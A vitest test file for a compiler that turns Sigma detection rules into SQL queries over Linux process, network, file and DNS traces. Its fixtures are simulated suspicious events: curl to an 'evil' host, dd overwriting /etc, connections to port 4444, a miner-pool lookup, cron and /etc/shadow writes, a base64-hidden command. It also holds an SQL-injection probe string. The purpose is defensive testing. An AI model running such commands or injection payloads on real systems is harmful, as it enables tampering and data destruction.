import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { eventAt, gzipSource, readToEnd, rowsOf } from "../../../test/harness/testTrace.js";
import type { OpenTrace } from "../../protocol/openTrace.js";
import type { Signature } from "../signature.js";
import { compileSigma } from "./compileSigma.js";
import { prepareSigmaTables } from "./sigmaSources.js";

const exec = (ms: number, pid: number, ppid: number, filename: string, ...args: string[]): object =>
  eventAt(ms, { type: "process_exec", pid, ppid, uid: 0, comm: "x", filename, args, cwd: "/tmp/job" });
const connect = (ms: number, pid: number, dst_addr: string, dst_port: number): object =>
  eventAt(ms, { type: "net_connect", pid, dst_addr, dst_port, protocol: "tcp" });
const open = (ms: number, pid: number, path: string, flags: string, more: object = {}): object =>
  eventAt(ms, { type: "file_open", pid, path, flags, ...more });

const lines = [
  exec(1, 10, 1, "/usr/bin/bash", "bash", "-e", "/opt/step.sh"),
  exec(2, 11, 10, "/usr/bin/curl", "curl", "-s", "http://Evil.Example/x"),
  eventAt(3, { type: "process_fork", pid: 10, ppid: 1, child_pid: 12 }),
  exec(4, 13, 12, "/bin/dd", "dd", "if=/dev/zero", "of=/etc/it's"),
  connect(5, 11, "10.1.2.3", 4444),
  connect(6, 11, "203.0.113.9", 4444),
  connect(7, 11, "fe80::1", 22),
  connect(8, 11, "::ffff:192.168.0.9", 23),
  eventAt(9, { type: "dns_query", pid: 11, hostname: "Pool.Miner.example", qtype: 28 }),
  open(10, 11, "/etc/cron.d/Job", "O_WRONLY|O_CREAT"),
  open(11, 11, "/etc/passwd", "O_RDONLY"),
  eventAt(12, { type: "file_rename", pid: 11, path: "/tmp/a", new_path: "/usr/lib/evil.so" }),
  exec(
    13,
    14,
    10,
    "/usr/bin/python3",
    "python3",
    "-c",
    `x='${Buffer.from("import os;curl http").toString("base64")}'`,
  ),
  open(14, 11, "/etc/shadow", "O_WRONLY|O_CREAT", { failed: "EACCES" }),
  eventAt(15, {
    type: "file_rename",
    pid: 11,
    path: "/tmp/b",
    new_path: "/usr/lib/refused.so",
    failed: "EPERM",
  }),
];
const [bash, curl, , dd, privateConnect, publicConnect, linkLocal, mapped, lookup, cron, , renamed, python] =
  lines.map((_line, index) => index + 1);

/** A rule of a category with this detection, written as YAML. */
function rule(category: string, detection: string, more = ""): string {
  return `title: A rule\nid: 0000\nlevel: high\nlogsource:\n  product: linux\n  category: ${category}\ndetection:\n${detection
    .split("\n")
    .map((line) => `  ${line}`)
    .join("\n")}\n${more}`;
}

function compiled(text: string): Signature {
  const [outcome] = compileSigma(text);
  if (outcome?.kind !== "compiled") throw new Error(outcome?.reason ?? "no rule");
  return outcome.signature;
}

function reasonOf(text: string): string {
  const [outcome] = compileSigma(text);
  if (outcome?.kind !== "unsupported") throw new Error("it compiled");
  return outcome.reason;
}

describe("Sigma rules on a trace", () => {
  let trace: OpenTrace;

  beforeAll(async () => {
    trace = await readToEnd(gzipSource(...lines));
    for (const statement of prepareSigmaTables) await trace.runSql(statement);
  });

  afterAll(() => trace.dispose());

  async function linesFound(text: string): Promise<unknown[]> {
    const rows = await rowsOf(trace, `select * from (${compiled(text).sql}) order by event_id`);
    return rows.map((row) => row["event_id"]);
  }

  it.each([
    ["endswith", "s:\n  Image|endswith: /CURL\ncondition: s", [curl]],
    ["startswith", "s:\n  CommandLine|startswith: bash -\ncondition: s", [bash]],
    ["contains", "s:\n  CommandLine|contains: evil.example\ncondition: s", [curl]],
    ["contains all", "s:\n  CommandLine|contains|all:\n    - if=\n    - of=\ncondition: s", [dd]],
    ["whole text", "s:\n  Image:\n    - /bin/dd\n    - /usr/bin/dd\ncondition: s", [dd]],
    ["wildcards", "s:\n  CommandLine: 'c?rl *://*'\ncondition: s", [curl]],
    ["a quote", `s:\n  CommandLine|contains: "it's"\ncondition: s`, [dd]],
    ["per cent and underscore as themselves", "s:\n  CommandLine|contains: 'e_il%'\ncondition: s", []],
    ["regular expression", "s:\n  CommandLine|re: 'http://[A-Z]\\w+'\ncondition: s", [curl]],
    ["regular expressions tell case", "s:\n  CommandLine|re: 'evil'\ncondition: s", []],
    ["regular expression without case", "s:\n  CommandLine|re|i: 'evil'\ncondition: s", [curl]],
    ["cased", "s:\n  CommandLine|contains|cased: evil\ncondition: s", []],
    ["windash", "s:\n  CommandLine|contains|windash: ' /s '\ncondition: s", [curl]],
    ["windash as it is written", "s:\n  CommandLine|startswith|windash: bash -e /opt\ncondition: s", [bash]],
    ["windash, each by itself", "s:\n  CommandLine|windash: '*/e —opt/s???.sh'\ncondition: s", []],
    ["windash, one of two", "s:\n  CommandLine|windash: '*/e /opt/s???.sh'\ncondition: s", [bash]],
    ["windash, not inside a word", "s:\n  CommandLine|contains|windash: Example-x\ncondition: s", []],
    [
      "windash, other characters as themselves",
      "s:\n  CommandLine|contains|windash: '/s .ttp'\ncondition: s",
      [],
    ],
    ["windash, cased", "s:\n  CommandLine|contains|windash|cased: '/S http'\ncondition: s", []],
    ["windash without a dash", "s:\n  CommandLine|contains|windash: EVIL\ncondition: s", [curl]],
    ["base64offset", "s:\n  CommandLine|base64offset|contains: curl http\ncondition: s", [python]],
    ["exists", "s:\n  ParentImage|exists: true\ncondition: s", [curl, dd, python]],
    ["null", "s:\n  ParentImage: null\ncondition: s", [bash]],
    [
      "parent behind a bare fork",
      "s:\n  ParentImage|endswith: /bash\n  Image|endswith: /dd\ncondition: s",
      [dd],
    ],
    [
      "parent's command line",
      "s:\n  ParentCommandLine|contains: step.sh\n  Image|contains: python\ncondition: s",
      [python],
    ],
    [
      "not",
      "s:\n  Image|startswith: /usr\nf:\n  Image|endswith: /bash\ncondition: s and not f",
      [curl, python],
    ],
    [
      "not of what is null",
      "s:\n  Image|contains: /\nf:\n  ParentImage|endswith: /bash\ncondition: s and not f",
      [bash],
    ],
    [
      "list of maps",
      "s:\n  - Image|endswith: /dd\n  - Image|endswith: /curl\n    CommandLine|contains: nothing\ncondition: s",
      [dd],
    ],
    ["1 of", "s_a:\n  Image|endswith: /dd\ns_b:\n  Image|endswith: /curl\ncondition: 1 of s_*", [curl, dd]],
    [
      "all of them",
      "a:\n  Image|startswith: /usr\nb:\n  Image|endswith: /curl\ncondition: all of them",
      [curl],
    ],
    [
      "2 of them",
      "a:\n  Image|startswith: /usr\nb:\n  Image|endswith: /curl\nc:\n  CommandLine|contains: '-s'\ncondition: 2 of them",
      [curl],
    ],
    ["keywords", "k:\n  - evil.example\n  - /dev/zero\ncondition: k", [curl, dd]],
    [
      "several conditions",
      "a:\n  Image|endswith: /dd\nb:\n  Image|endswith: /curl\ncondition:\n  - a\n  - b",
      [curl, dd],
    ],
    ["root by name", "s:\n  User: root\n  Image|endswith: /dd\ncondition: s", [dd]],
    ["working directory", "s:\n  CurrentDirectory: /tmp/job\n  Image|endswith: /dd\ncondition: s", [dd]],
    ["number compared", "s:\n  ProcessId|gte: 13\n  ProcessId|lt: 14\ncondition: s", [dd]],
    ["field reference", "s:\n  CommandLine|fieldref|contains: ParentProcessId\ncondition: s", []],
    ["neq", "s:\n  Image|neq:\n    - /usr/bin/curl\n    - /usr/bin/bash\ncondition: s", [dd, python]],
  ])("finds processes by %s", async (_name, detection, expected) => {
    expect(await linesFound(rule("process_creation", detection))).toEqual(expected);
  });

  it.each([
    ["number", "s:\n  DestinationPort: 4444\ncondition: s", [privateConnect, publicConnect]],
    [
      "CIDR left out",
      "s:\n  DestinationPort: 4444\nf:\n  DestinationIp|cidr: 10.0.0.0/8\ncondition: s and not f",
      [publicConnect],
    ],
    ["IPv6 CIDR", "s:\n  DestinationIp|cidr:\n    - fe80::/10\n    - ::1/128\ncondition: s", [linkLocal]],
    ["IPv4 in IPv6", "s:\n  DestinationIp|cidr: 192.168.0.0/16\ncondition: s", [mapped]],
    ["comparison", "s:\n  DestinationPort|lt: 23\n  Initiated: 'true'\ncondition: s", [linkLocal]],
    ["program", "s:\n  Image|endswith: /curl\n  DestinationPort: 23\ncondition: s", [mapped]],
  ])("finds connections by %s", async (_name, detection, expected) => {
    expect(await linesFound(rule("network_connection", detection))).toEqual(expected);
  });

  it("finds files that were created or moved into place, and none that were only read or that failed", async () => {
    const anyFile = rule("file_event", "s:\n  TargetFilename|startswith: /\ncondition: s");
    expect(await linesFound(anyFile)).toEqual([cron, renamed]);
    const byCurl = rule(
      "file_event",
      "s:\n  TargetFilename|contains: /CRON\n  Image|endswith: /curl\ncondition: s",
    );
    expect(await linesFound(byCurl)).toEqual([cron]);
  });

  it.each(["dns", "dns_query"])("finds look-ups of category %s", async (category) => {
    expect(
      await linesFound(rule(category, "s:\n  QueryName|endswith: .miner.example\ncondition: s")),
    ).toEqual([lookup]);
    expect(await linesFound(rule(category, "s:\n  record_type: AAAA\ncondition: s"))).toEqual([lookup]);
  });

  it("lets no word of a rule be SQL", async () => {
    const word = "'); drop table event; --";
    const hostile = rule("process_creation", `s:\n  CommandLine|contains: "${word}"\ncondition: s`).replace(
      "A rule",
      word,
    );
    expect(await linesFound(hostile.replace(`title: ${word}`, `title: "${word}"`))).toEqual([]);
    const regex = rule(
      "process_creation",
      `s:\n  CommandLine|re: "${word.replace(")", "\\\\)")}"\ncondition: s`,
    );
    expect(await linesFound(regex)).toEqual([]);
    expect(await rowsOf(trace, "select count(*) as events from event")).toEqual([{ events: lines.length }]);
  });
});

describe("a compiled rule", () => {
  it("carries what its file says", () => {
    const text = rule(
      "process_creation",
      "s:\n  ParentImage: /bin/sh\ncondition: s",
      "tags:\n  - attack.execution\n  - attack.t1059.004\nreferences:\n  - https://docs.example/x\nfalsepositives:\n  - Updates\n",
    );
    expect(compiled(text)).toMatchObject({
      id: "sigma-0000",
      name: "a-rule",
      severity: "high",
      technique: "T1059.004",
      references: ["https://docs.example/x"],
      needs: ["parents"],
    });
    expect(compiled(text).blindSpots).toContain("Updates");
  });

  it("gives each document of a file", () => {
    const text = ["a", "b"]
      .map((name) => rule("dns", `${name}:\n  query: x\ncondition: ${name}`))
      .join("---\n");
    expect(compileSigma(text).map(({ kind }) => kind)).toEqual(["compiled", "compiled"]);
  });
});

describe("what is not supported", () => {
  const detection = "s:\n  Image: x\ncondition: s";

  it.each([
    ["a field that events lack", rule("process_creation", "s:\n  LogonId: 0\ncondition: s"), "LogonId"],
    ["a name from JavaScript", rule("process_creation", "s:\n  constructor: x\ncondition: s"), "constructor"],
    ["an unknown modifier", rule("process_creation", "s:\n  Image|expand: '%x%'\ncondition: s"), "expand"],
    ["a user by name", rule("process_creation", "s:\n  User: www-data\ncondition: s"), "cannot be decided"],
    ["look-ahead", rule("process_creation", "s:\n  Image|re: 'a(?=b)'\ncondition: s"), "look-ahead"],
    [
      "CIDR on text",
      rule("process_creation", "s:\n  Image|cidr: 10.0.0.0/8\ncondition: s"),
      "not an address",
    ],
    ["a bad block", rule("network_connection", "s:\n  DestinationIp|cidr: 10/8\ncondition: s"), "CIDR"],
    ["another category", rule("registry_event", detection), "registry_event"],
    ["another system", rule("process_creation", detection).replace("linux", "windows"), "windows"],
    ["a service", rule("x", detection).replace("category: x", "service: auditd"), "auditd"],
    ["a timeframe", rule("dns", "s:\n  query: x\ntimeframe: 5m\ncondition: s"), "timeframe"],
    ["a correlation", "title: x\ncorrelation:\n  type: event_count\n", "Correlation"],
    ["no condition", rule("dns", "s:\n  query: x"), "condition"],
    ["an empty selection", rule("dns", "s: []\ncondition: s"), "empty"],
    ["no detection", "title: x\n", "detection"],
    ["a list", "- 1\n- 2\n", "map"],
  ])("is said of %s", (_name, text, reason) => {
    expect(reasonOf(text)).toContain(reason);
  });

  it("names the line of a fault in the YAML", () => {
    const [outcome] = compileSigma("title: x\ndetection: [\nlogsource: {");
    expect(outcome).toMatchObject({ kind: "unsupported", id: null });
    expect((outcome as { line: number }).line).toBeGreaterThan(1);
  });

  it.each([
    ["deep nesting", "[".repeat(100_000)],
    [
      "aliases that expand without end",
      `a: &a [x,x,x,x,x,x,x,x,x,x]\n${"bcdefg"
        .split("")
        .map((name, at) => `${name}: &${name} [${`*${"abcdefg"[at] ?? ""},`.repeat(10)}]`)
        .join("\n")}\ndetection: *g\n`,
    ],
    ["a large file", "x".repeat(2 * 1024 * 1024)],
    ["binary", "\u0000\u0001\ufffd"],
  ])("is survived: %s", (_name, text) => {
    expect(compileSigma(text).every(({ kind }) => kind === "unsupported")).toBe(true);
  });
});
